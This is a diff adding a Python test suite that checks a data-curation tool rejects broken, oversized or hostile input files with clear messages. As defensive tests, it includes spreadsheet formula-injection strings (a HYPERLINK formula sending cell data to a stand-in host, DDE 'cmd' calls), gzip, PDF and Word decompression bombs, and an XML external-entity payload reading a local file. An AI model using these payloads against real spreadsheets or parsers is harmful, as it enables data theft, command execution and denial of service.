@@ -1,0 +1,320 @@
+"""Files that are torn, foreign or made to hurt are refused with their place, and say what to do."""
+
+import gzip
+import io
+import json
+import zipfile
+import zlib
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import docx
+import pyarrow as pa
+import pytest
+from pyarrow import parquet
+
+from curation.curation_settings import Columns
+from curation.sources.documents.read_documents import read_documents
+from curation.sources.row_formats import numbered_rows
+from curation.sources.table_rows import rows_of_table
+from curation.sources.tables import file_bytes
+from curation.sources.tables.read_table import read_table
+from project.errors import InputError
+from project.records.data import Row
+from tests.curation import made_documents
+
+MIB = 2**20
+ROW = '{"prompt": "a", "completion": "b"}'
+DEEP = "[" * 100_000
+
+
+@pytest.fixture(autouse=True)
+def _in_a_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.chdir(tmp_path)
+
+
+def write(name: str, data: str | bytes) -> Path:
+    Path(name).write_bytes(data.encode() if isinstance(data, str) else data)
+    return Path(name)
+
+
+def read_rows(path: Path) -> list[Row]:
+    return [row for _, row in numbered_rows(path)]
+
+
+def read_pairs(path: Path, **options: Any) -> list[str]:
+    """The answers of a table's records, or why there is none."""
+    columns = Columns(prompt=("prompt",), completion="completion")
+    reads = rows_of_table(read_table(path, **options), columns)
+    return [
+        one.made.completion_text if isinstance(one.made, Row) else str(one.origin.why)
+        for one in reads
+    ]
+
+
+Reader = Callable[[Path], object]
+READERS: dict[str, Reader] = {"rows": read_rows, "table": read_pairs}
+
+
+# --- JSON Lines, as rows and as a table ---------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", READERS)
+@pytest.mark.parametrize(
+    ("second", "complaint"),
+    [
+        ('{"prompt": "a", "compl', r":2: .*(cut off|Unterminated)"),
+        (f'{{"prompt": "a", "completion": {DEEP}', r":2: .*nested too deep"),
+        ('{"prompt": ' + '{"a":' * 100_000, r":2: .*nested too deep"),
+        ('{"prompt": "a", "completion": "\\ud83d"}', r":2: .*half of a character"),
+        ('{"prompt": "a", "prompt": "c", "completion": "b"}', r":2: .*key 'prompt' twice"),
+        ('{"prompt": "a\0", "completion": "b"}', r":2: .*NUL"),
+        ('{"prompt": "a", "completion": ' + "9" * 5000 + "}", r":2: .*number that is too long"),
+        ("version https://git-lfs.github.com/spec/v1", r":2: "),
+        (b'{"prompt": "a", "completion": "\xe3\xe2\xe5"}', r":2: is not UTF-8.*encoding"),
+        ('{"prompt": "' + "a" * 17 * MIB + '", "completion": "b"}', r":2: .*longer than 16 MiB"),
+        ("a" * 17 * MIB, r":2: .*longer than 16 MiB"),
+    ],
+)
+def test_a_line_that_cannot_be_read_is_named(
+    name: str, second: str | bytes, complaint: str
+) -> None:
+    line = second.encode() if isinstance(second, str) else second
+    path = write("a.jsonl", f"{ROW}\n".encode() + line + f"\n{ROW}".encode())
+    with pytest.raises(InputError, match=r"a\.jsonl" + complaint):
+        READERS[name](path)
+
+
+@pytest.mark.parametrize("name", READERS)
+def test_a_file_of_one_endless_line_is_refused_before_it_is_read(
+    name: str,
+) -> None:
+    with Path("a.jsonl").open("wb") as file:
+        file.write(b'{"prompt": "')
+        file.truncate(200 * MIB)
+    with pytest.raises(InputError, match=r"a\.jsonl.*:1: is longer than 16 MiB"):
+        READERS[name](Path("a.jsonl"))
+
+
+@pytest.mark.parametrize("name", READERS)
+def test_a_pointer_of_git_lfs_is_no_file(name: str) -> None:
+    path = write("a.jsonl", "version https://git-lfs.github.com/spec/v1\noid sha256:1\nsize 3\n")
+    with pytest.raises(InputError, match="git lfs pull"):
+        READERS[name](path)
+
+
+@pytest.mark.parametrize("mark", ["\u2028", "\u2029", "\x85"])
+def test_characters_that_pass_for_line_ends_are_parts_of_a_text(mark: str) -> None:
+    text = json.dumps({"prompt": "a", "completion": f"b{mark}c"}, ensure_ascii=False)
+    path = write("a.jsonl", f"{text}\n{ROW}\n")
+    assert [row.completion_text for row in read_rows(path)] == [f"b{mark}c", "b"]
+    assert read_pairs(path) == [f"b{mark}c", "b"]
+
+
+def test_nan_is_no_value_of_a_row() -> None:
+    path = write("a.jsonl", '{"prompt": "a", "completion": NaN}')
+    with pytest.raises(InputError, match=r"a\.jsonl:1: .*NaN"):
+        read_rows(path)
+    assert read_pairs(path) == ["without an answer"]
+
+
+def test_rows_in_an_older_encoding_are_read_where_it_is_named() -> None:
+    path = write("a.jsonl", '{"prompt": "ставка", "completion": "да"}'.encode("cp1251"))
+    with pytest.raises(InputError, match=r"a\.jsonl:1: is not UTF-8.*likely windows-1251"):
+        read_rows(path)
+    ((_, row),) = numbered_rows(path, encoding="cp1251")
+    assert row.completion_text == "да"
+
+
+def test_a_list_of_records_may_be_one_long_line() -> None:
+    records = [{"prompt": f"{i}" * 1000, "completion": "b"} for i in range(10)] * 2000
+    assert len(read_pairs(write("a.json", json.dumps(records)))) == 20_000
+
+
+def test_a_packed_file_that_inflates_without_end_is_refused(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setattr(file_bytes, "LARGEST", 8 * MIB)
+    path = write("a.jsonl.gz", gzip.compress(bytes(64 * MIB)))
+    with pytest.raises(InputError, match="unpacks to more than 8 MiB"):
+        read_pairs(path)
+
+
+# --- CSV ----------------------------------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://x.example/?"&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+SUM(A1:A9)",
+    "-sum(1+1)*cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "=A1+B2",
+    "=Sheet1!A1",
+    " =IMPORTXML(A1,B1)",
+    "=IF(A1>3,1,2)",
+]
+TEXTS = [
+    "@bank my card is gone (again)",
+    "@SUM41 rocks",
+    "- first, call us (free)",
+    "-5 %",
+    "+49 30 1234567",
+    "+1 (555) 123 4567",
+    "= 42",
+    "=> see below (page 3)",
+    "=) thanks",
+    "== Header ==",
+    "-f(x) is the answer",
+    "-sin(x) + C",
+    "=cos(x)",
+    "@NASA(Houston) hello",
+    "- a | b! C",
+    "=",
+    "-",
+    "@",
+    "--help (or -h) shows it",
+    "=/= is not equal",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_formula_of_a_spreadsheet_is_no_text(text: str) -> None:
+    quoted = text.replace('"', '""')
+    path = write("a.csv", f'prompt,completion\na,b\nc,"{quoted}"\n')
+    with pytest.raises(InputError, match=r"a\.csv:3: .*formula.*'completion'"):
+        read_pairs(path)
+    assert read_pairs(path, skip=True) == ["b", "unreadable"]
+
+
+@pytest.mark.parametrize("text", TEXTS)
+def test_a_text_that_begins_like_a_formula_is_read(text: str) -> None:
+    path = write("a.csv", f'prompt,completion\na,"{text}"\nb,c\n')
+    assert read_pairs(path)[1] == "c"
+
+
+def test_a_formula_in_json_is_a_text() -> None:
+    path = write("a.jsonl", json.dumps({"prompt": "sum?", "completion": "=SUM(A1:A9)"}))
+    assert read_pairs(path) == ["=SUM(A1:A9)"]
+
+
+def test_a_csv_of_one_endless_line_is_refused_with_its_line() -> None:
+    path = write("a.csv", "prompt,completion\na," + "b" * 17 * MIB)
+    with pytest.raises(InputError, match=r"a\.csv:2: .*longer than 16 MiB"):
+        read_pairs(path)
+
+
+# --- Parquet ------------------------------------------------------------------------------------
+
+
+def test_a_nested_column_is_refused_where_a_text_is_asked_for() -> None:
+    answers = [{"text": "a"}, {"text": "b"}]
+    parquet.write_table(pa.table({"prompt": ["p", "q"], "completion": answers}), "a.parquet")
+    with pytest.raises(InputError, match=r"a\.parquet: completion: .*lists or objects"):
+        read_pairs(Path("a.parquet"))
+
+
+def test_a_nested_column_that_nobody_asks_for_is_left_aside() -> None:
+    meta = [{"by": ["x"]}, {"by": []}]
+    columns = {"prompt": ["p", "q"], "completion": ["a", "b"], "meta": meta}
+    parquet.write_table(pa.table(columns), "a.parquet")
+    assert read_pairs(Path("a.parquet")) == ["a", "b"]
+
+
+# --- documents ----------------------------------------------------------------------------------
+
+
+def read(path: Path) -> list[str]:
+    return [one.origin.why or "read" for one in read_documents(path)]
+
+
+def of_one_page(*content: bytes) -> bytes:
+    font, thing = b"/Font << /F1 3 0 R >>", b"/XObject << /X 6 0 R >>"
+    resources = b"/Resources << " + font + thing + b" >>"
+    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] " + resources
+    tree = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>"]
+    objects = [*tree, made_documents.FONT, page + b" /Contents 5 0 R >>", *content]
+    return made_documents.of_objects(objects)
+
+
+def test_a_pdf_whose_pages_hold_themselves_is_refused() -> None:
+    loop = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"]
+    with pytest.raises(InputError, match=r"a\.pdf: is a broken PDF"):
+        read(write("a.pdf", made_documents.of_objects(loop)))
+
+
+def test_a_pdf_whose_drawing_draws_itself_ends() -> None:
+    about = "/Type /XObject /Subtype /Form /Resources << /XObject << /X 6 0 R >> >> "
+    drawing = made_documents.stream(b"/X Do /X Do", about)
+    path = write("a.pdf", of_one_page(made_documents.stream(b"/X Do"), drawing))
+    assert read(path)[0].startswith("without a text")
+
+
+def test_a_pdf_that_inflates_without_end_is_refused() -> None:
+    packed = zlib.compress(b"BT (a) Tj ET\n" * 8 * MIB)
+    path = write("a.pdf", of_one_page(made_documents.stream(packed, "/Filter /FlateDecode ")))
+    with pytest.raises(
+        InputError, match=r"a\.pdf: is a broken PDF \(LimitReachedError\): print it"
+    ):
+        read(path)
+
+
+@pytest.mark.parametrize(
+    ("name", "data", "complaint"),
+    [
+        ("a.pdf", made_documents.pdf([["abc"]])[:200], "is a broken PDF"),
+        ("a.pdf", b"%PDF-1.4\n1 0 obj\n" + DEEP.encode(), "is a broken PDF"),
+        ("a.docx", b"PK\3\4 torn", "is no Word document"),
+        ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "an old or an encrypted Word document"),
+        ("a.html", b"<div>" * 100_000, "nested too deep: save it as text"),
+        ("a.txt", bytes(range(256)), "is binary data"),
+        ("a.md", b"version https://git-lfs.github.com/spec/v1\n", "git lfs pull"),
+        ("a.md", b"# a\n" * MIB, "at most 2 MiB are read: split it"),
+    ],
+)
+def test_a_document_that_cannot_be_read_is_named(name: str, data: bytes, complaint: str) -> None:
+    with pytest.raises(InputError, match=f"{name}: .*{complaint}"):
+        read(write(name, data))
+
+
+@pytest.mark.parametrize("name", ["a.txt", "a.md", "a.html", "a.pdf", "a.docx"])
+def test_a_document_of_200_megabytes_is_refused_unread(name: str) -> None:
+    with Path(name).open("wb") as file:
+        file.truncate(200 * MIB)
+    with pytest.raises(InputError, match="200 MiB large, and at most"):
+        read(Path(name))
+
+
+def word_document() -> Path:
+    document = docx.Document()
+    document.add_paragraph("said")
+    document.save("a.docx")
+    return Path("a.docx")
+
+
+@pytest.mark.parametrize("part", ["word/document.xml", "word/media/picture.png"])
+def test_a_word_document_that_inflates_without_end_is_refused(part: str) -> None:
+    path = word_document()
+    made_documents.with_part(path, part, b"<a>" + bytes(300 * MIB))
+    assert path.stat().st_size < MIB
+    with pytest.raises(InputError, match=r"a\.docx: inflates to 300 MiB"):
+        read(path)
+
+
+def test_what_a_word_document_names_outside_of_it_is_not_read() -> None:
+    path = word_document()
+    Path("secret").write_text("secret")
+    body = made_documents.part(path, "word/document.xml").split(b"?>", 1)[1]
+    outside = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "{Path("secret").resolve()}">]>'
+    made_documents.with_part(
+        path, "word/document.xml", outside.encode() + body.replace(b"said", b"&x;")
+    )
+    assert all(b"secret" not in str(one.made).encode() for one in read_documents(path))
+
+
+def test_a_zip_file_of_something_else_is_no_word_document() -> None:
+    data = io.BytesIO()
+    with zipfile.ZipFile(data, "w") as parts:
+        parts.writestr("a.txt", "x")
+    with pytest.raises(InputError, match="is a broken Word document"):
+        read(write("a.docx", data.getvalue()))
